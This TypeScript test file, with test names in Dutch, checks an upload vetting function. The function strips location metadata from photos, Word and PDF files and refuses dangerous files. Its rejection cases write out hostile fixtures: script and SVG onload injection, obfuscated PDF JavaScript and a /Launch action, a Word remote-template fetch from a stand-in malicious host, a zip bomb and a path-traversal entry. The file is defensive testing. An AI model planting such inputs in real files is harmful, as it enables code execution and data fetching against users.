import sharp from 'sharp'
import { deflateSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { docx, fotoMetPlaats, pdf } from '../../tests/hulp/bestanden.ts'
import { keur } from './keur.ts'
import { pakUit } from './zip.ts'

const naamVan = { jpeg: 'foto.jpg', png: 'foto.png', webp: 'foto.webp' } as const
const goed = async (naam: string, bytes: Buffer) => {
  const uit = await keur({ naam, bytes })
  if (!uit.ok) throw new Error(uit.uitleg)
  return uit
}
const geweigerd = async (naam: string, bytes: Buffer) => {
  const uit = await keur({ naam, bytes })
  expect(uit.ok).toBe(false)
  return uit.ok ? '' : uit.uitleg
}

test.each(['jpeg', 'png', 'webp'] as const)(
  'SD-33 een foto (%s) met plaats komt er zonder uit, met alle beeldpunten',
  async soort => {
    const bytes = await fotoMetPlaats(soort)
    expect((await sharp(bytes).metadata()).exif?.includes('Proefcamera')).toBe(true)
    const uit = await goed(naamVan[soort], bytes)
    const na = await sharp(uit.bytes).metadata()
    expect(uit.type).toBe(soort)
    expect([na.exif, na.xmp, na.iptc]).toEqual([undefined, undefined, undefined])
    expect([na.width, na.height]).toEqual([40, 30])
    expect(uit.bytes.includes('Proefcamera')).toBe(false)
  },
)

test('SD-33 uit een Word-bestand gaan de plaats van de foto, de maker en het voorbeeldplaatje', async () => {
  const foto = await fotoMetPlaats()
  const uit = await goed(
    'verslag.docx',
    docx({ naam: 'word/media/image1.jpeg', inhoud: foto }, { naam: 'docProps/thumbnail.jpeg', inhoud: foto }),
  )
  const delen = pakUit(uit.bytes)
  const inhoud = (naam: string) => delen.find(d => d.naam === naam)?.bytes ?? Buffer.alloc(0)
  expect((await sharp(inhoud('word/media/image1.jpeg')).metadata()).exif).toBeUndefined()
  expect(inhoud('docProps/core.xml').includes('Verzonnen Maker')).toBe(false)
  expect(inhoud('word/document.xml').includes('Verzonnen verslag.')).toBe(true)
  expect(delen.some(d => d.naam.includes('thumbnail'))).toBe(false)
})

test('SD-33 in een PDF wordt op zijn plek gewist wat een camera en een programma over plaats schreven', async () => {
  const foto = await fotoMetPlaats()
  const xmp =
    '<?xpacket begin="" id="W5"?><x:xmpmeta><exif:GPSLatitude>51,50N</exif:GPSLatitude></x:xmpmeta><?xpacket end="w"?>'
  const stroom = (kop: string, inhoud: Buffer) =>
    Buffer.concat([
      Buffer.from(`5 0 obj\n<< ${kop} /Length ${inhoud.length} >>\nstream\n`),
      inhoud,
      Buffer.from('\nendstream\nendobj\n'),
    ])
  const begin = pdf()
  const bytes = Buffer.concat([
    begin.subarray(0, 9),
    stroom('/Type /XObject /Filter /DCTDecode', foto),
    stroom('/Type /Metadata', Buffer.from(xmp)),
    begin.subarray(9),
  ])
  const uit = await goed('verslag.pdf', bytes)
  expect(uit.bytes.length).toBe(bytes.length)
  expect(uit.bytes.includes('GPSLatitude')).toBe(false)
  expect(uit.bytes.includes('Proefcamera')).toBe(false)
})

test('wat gewoon is mag: PDF, Word en tekst blijven wat zij zijn', async () => {
  expect((await goed('verslag.PDF', pdf())).bytes).toEqual(pdf())
  expect((await goed('verslag.docx', docx())).type).toBe('docx')
  expect((await goed('briefje.txt', Buffer.from('Wij spraken af dat het rustig blijft.\n'))).type).toBe('tekst')
})

const ingepakt = (woorden: string, soort = '/ObjStm') => {
  const inhoud = deflateSync(Buffer.from(woorden))
  const los = pdf()
  return Buffer.concat([
    los.subarray(0, 9),
    Buffer.from(`7 0 obj\n<< /Type ${soort} /Filter /FlateDecode /Length ${inhoud.length} >>\nstream\n`),
    inhoud,
    Buffer.from('\nendstream\nendobj\n'),
    los.subarray(9),
  ])
}

test.each<[string, string, () => Buffer | Promise<Buffer>]>([
  ['leeg', 'a.pdf', () => Buffer.alloc(0)],
  ['te groot', 'a.txt', () => Buffer.alloc(10 * 1024 * 1024 + 1, 'a')],
  ['een programma', 'a.exe', () => Buffer.from('MZ\u0090\0\u0003\0\0\0', 'latin1')],
  ['een programma met de naam van een foto', 'a.jpg', () => Buffer.from('MZ\u0090\0\u0003\0\0\0', 'latin1')],
  ['een foto met de naam van een PDF', 'a.pdf', () => fotoMetPlaats()],
  ['een bladzijde met de naam van tekst', 'a.txt', () => Buffer.from('<!doctype html><script>alert(1)</script>')],
  [
    'een tekening die iets kan doen',
    'a.svg',
    () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'),
  ],
  ['tekst met stuurtekens', 'a.txt', () => Buffer.from('a\0b')],
  ['een naam zonder soort', 'verslag', () => pdf()],
  ['een halve foto', 'a.jpg', async () => (await fotoMetPlaats()).subarray(0, 200)],
  ['een PDF met JavaScript', 'a.pdf', () => pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
  ['een PDF met verstopt JavaScript', 'a.pdf', () => pdf('/OpenAction << /S /J#61vaScript /J#53 (x) >>')],
  ['een PDF met ingepakt JavaScript', 'a.pdf', () => ingepakt('1 0 << /S /JavaScript /JS (x) >>')],
  ['een PDF die een programma start', 'a.pdf', () => pdf('/AA << /O << /S /Launch /F (x.exe) >> >>')],
  ['een PDF met een bestand erin', 'a.pdf', () => pdf('/Names << /EmbeddedFiles 9 0 R >>')],
  ['een PDF op slot', 'a.pdf', () => pdf('/Encrypt 9 0 R')],
  ['een PDF met iets anders erachter', 'a.pdf', () => pdf('', `${'x'.repeat(2000)}PK\u0003\u0004`)],
  ['een PDF met ingepakte plaats', 'a.pdf', () => ingepakt('<exif:GPSLatitude>51</exif:GPSLatitude>', '/Metadata')],
  ['Word met macro', 'a.docx', () => docx({ naam: 'word/vbaProject.bin', inhoud: 'x' })],
  ['Word met een ding erin', 'a.docx', () => docx({ naam: 'word/embeddings/oleObject1.bin', inhoud: 'x' })],
  [
    'Word dat buiten iets ophaalt',
    'a.docx',
    () =>
      docx({
        naam: 'word/_rels/settings.xml.rels',
        inhoud:
          '<Relationships><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://kwaad.example/x.dotm" TargetMode="External"/></Relationships>',
      }),
  ],
  ['een zipbom als Word', 'a.docx', () => docx({ naam: 'word/bom.xml', inhoud: Buffer.alloc(70 * 1024 * 1024) })],
  ['een deel dat uit de map wil', 'a.docx', () => docx({ naam: '../../etc/kwaad', inhoud: 'x' })],
  ['een gewone zip als Word', 'a.docx', () => docx().subarray(0, 40)],
])('geweigerd met een rustige zin: %s', async (_wat, naam, maak) => {
  const zin = await geweigerd(naam, await maak())
  expect(zin).toMatch(/Er is niets bewaard\.$/)
  expect(zin).not.toMatch(/[{}<>]|undefined|Error/)
})

test('een foto met meer punten dan een geheugen aankan wordt geweigerd zonder haar te tekenen', async () => {
  const kop = await sharp({ create: { width: 9000, height: 9000, channels: 3, background: '#fff' } })
    .png()
    .toBuffer()
  expect(await geweigerd('groot.png', kop)).toMatch(/te veel beeldpunten/)
})

test('bytes achter een foto of een Word-bestand gaan niet mee', async () => {
  const foto = await goed('a.jpg', Buffer.concat([await fotoMetPlaats(), Buffer.from('<script>kwaad()</script>')]))
  expect(foto.bytes.includes('kwaad')).toBe(false)
  const word = await goed('a.docx', Buffer.concat([docx(), Buffer.from('')]))
  expect(pakUit(word.bytes).map(d => d.naam)).toContain('word/document.xml')
})
